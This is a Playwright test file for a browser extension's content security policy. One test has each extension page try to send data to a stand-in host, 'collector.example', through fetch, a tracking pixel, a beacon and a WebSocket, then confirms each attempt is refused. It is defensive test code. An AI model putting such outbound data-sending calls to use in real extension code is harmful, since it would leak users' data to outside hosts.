// The content security policy of the extension pages (lib/csp.ts), proven in Chromium: a page of
// ours cannot load anything from another host nor send to one but over TLS (where a sync server
// may be: which one is contacted is the user's grant, and tests/e2e/sync.spec.ts proves that no
// other is), and every page still renders without a single violation.
import type { Page } from '@playwright/test';
import { expect, test, type Extension } from './harness';
import { SITES, panelFrame, serveApp } from './sites';

const COLLECTOR = 'https://collector.example';
/** The same collector without TLS: no connection of any kind may reach it. */
const PLAIN = 'http://collector.example';
const PAGES = ['options.html', 'popup.html', 'panel.html', 'sidepanel.html'];

/** Answer every request to the collector: without the policy, each attempt below would succeed. */
async function serveCollector(ext: Extension) {
  for (const origin of [COLLECTOR, PLAIN])
    await ext.context.route(`${origin}/**`, (route) =>
      route.fulfill({
        status: 200,
        headers: { 'access-control-allow-origin': '*' },
        contentType: 'image/gif',
        // A 1×1 GIF, so that an image request would load too.
        body: Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64'),
      }),
    );
}

/** Record every violation of every page and frame from its first moment. */
async function recordViolations(ext: Extension) {
  await ext.context.addInitScript(() => {
    const seen: string[] = [];
    (globalThis as unknown as { __violations: string[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI} (${location.href})`),
    );
  });
}

const violationsOf = (page: Page) =>
  page.evaluate(() => (globalThis as unknown as { __violations?: string[] }).__violations ?? []);

test('an extension page cannot load from another host, nor send to one without TLS', async ({
  ext,
}) => {
  await serveCollector(ext);
  await recordViolations(ext);
  const requested: string[] = [];
  ext.context.on('requestfinished', (r) => {
    if (r.url().startsWith(COLLECTOR) || r.url().startsWith(PLAIN)) requested.push(r.url());
  });
  for (const path of PAGES) {
    const page = await ext.openPage(path);
    const attempt = await page.evaluate(
      async ({ collector, plain }) => {
        const outcome = async (p: Promise<unknown>) =>
          p.then(
            () => 'sent',
            () => 'refused',
          );
        const fetched = await outcome(
          fetch(`${plain}/fetch?note=Nachfolge`, { method: 'POST', body: 'Nachfolge' }),
        );
        const image = await outcome(
          new Promise((ok, fail) => {
            const img = new Image();
            img.onload = ok;
            img.onerror = fail;
            img.src = `${collector}/pixel.gif?note=Nachfolge`;
          }),
        );
        // A beacon is queued first and refused afterwards: its violation is checked below.
        navigator.sendBeacon(`${plain}/beacon`, 'Nachfolge');
        const socket = await outcome(
          new Promise((ok, fail) => {
            try {
              const ws = new WebSocket(`${plain.replace('http', 'ws')}/socket`);
              ws.onopen = ok;
              ws.onerror = fail;
            } catch (e) {
              fail(e);
            }
          }),
        );
        return { fetched, image, socket };
      },
      { collector: COLLECTOR, plain: PLAIN },
    );
    expect(attempt, path).toEqual({
      fetched: 'refused',
      image: 'refused',
      socket: 'refused',
    });
    // The browser says why: the policy refused it.
    await expect
      .poll(() => violationsOf(page), { message: path })
      .toEqual(
        expect.arrayContaining([
          expect.stringMatching(new RegExp(`^connect-src ${PLAIN}/fetch`)),
          expect.stringMatching(new RegExp(`^img-src ${COLLECTOR}/pixel\\.gif`)),
          expect.stringMatching(new RegExp(`^connect-src ${PLAIN}/beacon`)),
        ]),
      );
    await page.close();
  }
  expect(requested).toEqual([]);
  // Chromium reports each refusal in the page's console: exactly these are expected here.
  const host = new URL(COLLECTOR).host;
  const refusals = ext.errors.filter((e) => e.includes(host));
  expect(refusals.length).toBeGreaterThan(0);
  ext.errors.splice(0, ext.errors.length, ...ext.errors.filter((e) => !e.includes(host)));
});

test('every page renders under the policy without a violation', async ({ ext }) => {
  await recordViolations(ext);
  const dashboard = await ext.openPage('options.html');
  await dashboard.getByTestId('load-demo').click();
  await expect(dashboard.getByText('Demodaten geladen')).toBeVisible();
  const views: [string, string][] = [
    ['#/contacts', 'table'],
    ['#/occasions', 'main, h1, h2'],
    ['#/insights', 'h1, h2'],
    ['#/duplicates', 'h1, h2'],
    ['#/import', '[data-testid="import-page"]'],
    ['#/settings', 'form'],
  ];
  for (const [hash, ready] of views) {
    await dashboard.evaluate((h) => (location.hash = h), hash);
    await expect(dashboard.locator(ready).first()).toBeVisible();
  }
  // One contact's page (the first in the list).
  await dashboard.evaluate(() => (location.hash = '#/contacts'));
  await dashboard.locator('table tbody a').first().click();
  await expect(dashboard.locator('h1, h2').first()).toBeVisible();
  await dashboard.waitForTimeout(300);
  expect(await violationsOf(dashboard)).toEqual([]);

  const popup = await ext.openPage('popup.html');
  await expect(popup.getByTestId('agenda')).toBeVisible();
  expect(await violationsOf(popup)).toEqual([]);

  const side = await ext.openPage('sidepanel.html');
  await expect(side.locator('#root *').first()).toBeVisible();
  expect(await violationsOf(side)).toEqual([]);

  // The panel inside a host page (which sends its own strict policy).
  await serveApp(ext.context, [SITES.gmail.single]);
  const gmail = await ext.context.newPage();
  await gmail.goto(SITES.gmail.single.url);
  await expect(panelFrame(gmail).locator('main, .empty, [data-testid]').first()).toBeVisible();
  const frame = gmail.frames().find((f) => f.url().includes('/panel.html'));
  expect(frame).toBeDefined();
  expect(
    await frame!.evaluate(
      () => (globalThis as unknown as { __violations?: string[] }).__violations ?? [],
    ),
  ).toEqual([]);
  // Console errors of any extension page fail the test in the harness as well.
});
